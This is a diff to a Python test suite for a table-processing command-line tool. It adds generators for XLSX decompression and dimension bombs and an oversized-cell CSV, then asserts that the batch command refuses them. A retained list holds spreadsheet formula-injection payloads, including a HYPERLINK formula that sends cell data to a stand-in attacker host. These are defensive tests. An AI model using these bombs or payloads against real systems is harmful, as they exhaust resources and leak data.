@@ -22,6 +22,8 @@ from xfpush.partners.ledger import Ledger
 from xfpush.partners.packaging import build_package
 from xfpush.partners.safe import redact_url, safe_cell
 
+from .conftest import assert_refused, attack
+
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(1)",
            "\t=1", "\r=1"]
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -130,7 +132,7 @@ def test_a_table_with_only_a_header_is_an_input_error(tmp_path) -> None:
 
 
 def test_batch_refuses_a_header_only_table(tmp_path) -> None:
-    recipe = Path(__file__).resolve().parents[1] / "recipes" / "chongyang.yaml"
+    recipe = Path(__file__).resolve().parents[2] / "recipes" / "chongyang.yaml"
     result = CliRunner().invoke(main, ["batch", str(recipe), "--districts",
                                        str(header_only(tmp_path / "d.csv")), "-o",
                                        str(tmp_path / "out"), "--year", "2027"])
@@ -175,3 +177,78 @@ def test_undecodable_tables_are_input_errors(tmp_path, data, expected) -> None:
     (tmp_path / "bad.csv").write_bytes(data)
     with pytest.raises(InputError, match=expected):
         read_table(tmp_path / "bad.csv")
+
+
+# -- bombs in a districts table: refused by the real command, under the memory limit -------
+SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def raw_xlsx(path: Path, sheet: str, shared: bytes | None = None) -> Path:
+    """A minimal XLSX written part by part, so a test can make parts no spreadsheet program
+    would (a huge declared sheet, a shared-strings part that unpacks to hundreds of MB)."""
+    main = "application/vnd.openxmlformats-officedocument.spreadsheetml"
+    parts = {
+        "[Content_Types].xml": (
+            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
+            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
+            f'<Override PartName="/xl/workbook.xml" ContentType="{main}.sheet.main+xml"/>'
+            f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{main}.worksheet+xml"/>'
+            f'<Override PartName="/xl/sharedStrings.xml" ContentType="{main}.sharedStrings+xml"/>'
+            "</Types>"),
+        "_rels/.rels": (f'<Relationships xmlns="{REL_NS}"><Relationship Id="rId1" '
+                        f'Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
+        "xl/workbook.xml": (f'<workbook xmlns="{SHEET_NS}" xmlns:r="{OFFICE}"><sheets><sheet '
+                            'name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'),
+        "xl/_rels/workbook.xml.rels": (
+            f'<Relationships xmlns="{REL_NS}"><Relationship Id="rId1" Type="{OFFICE}/worksheet" '
+            'Target="worksheets/sheet1.xml"/><Relationship Id="rId2" '
+            f'Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'),
+        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{SHEET_NS}">{sheet}</worksheet>',
+    }
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, text in parts.items():
+            archive.writestr(name, text)
+        archive.writestr("xl/sharedStrings.xml", shared or f'<sst xmlns="{SHEET_NS}"/>'.encode())
+    return path
+
+
+def _inline(ref: str, text: str) -> str:
+    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'
+
+
+def dimension_bomb(path: Path) -> Path:
+    """1.5 KB declaring 1 048 576 rows × 16 384 columns (every gap read as empty cells)."""
+    return raw_xlsx(path, '<dimension ref="A1:XFD1048576"/><sheetData><row r="1">'
+                    f'{_inline("A1", "district")}</row><row r="1048576">'
+                    f'{_inline("XFD1048576", "x")}</row></sheetData>')
+
+
+def shared_strings_bomb(path: Path, megabytes: int = 400) -> Path:
+    """About 0.4 MB on disk, one shared string of ``megabytes`` MB once unpacked."""
+    text = b"A" * (megabytes << 20)
+    shared = (f'<sst xmlns="{SHEET_NS}" count="1"><si><t>'.encode() + text + b"</t></si></sst>")
+    return raw_xlsx(path, '<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData>',
+                    shared)
+
+
+def wide_csv(path: Path) -> Path:
+    path.write_text("district,issuer\n南湖镇,\"" + "长" * 200_000 + "\n", "utf-8")
+    return path
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(("make", "expected"), [
+    (dimension_bomb, "超过 20000 行（含空行），上限 20000 行"),
+    (shared_strings_bomb, "解压后有 400 MB，上限 64 MB"),
+    (wide_csv, "第 2 行有一格超过 128 KB 的上限"),
+], ids=["xlsx-dimension-bomb", "xlsx-shared-strings-bomb", "csv-cell-over-128kb"])
+def test_table_bombs_are_refused_by_batch(tmp_path: Path, make, expected: str) -> None:
+    table = make(tmp_path / ("d.csv" if make is wide_csv else "d.xlsx"))
+    recipe = Path(__file__).resolve().parents[2] / "recipes" / "chongyang.yaml"
+    result = attack("batch", recipe, "--districts", table, "-o", tmp_path / "out", "--year",
+                    "2027", cwd=tmp_path, timeout=60)
+    assert_refused(result, f"区县表 {table}", expected)
+    assert not (tmp_path / "out").exists()
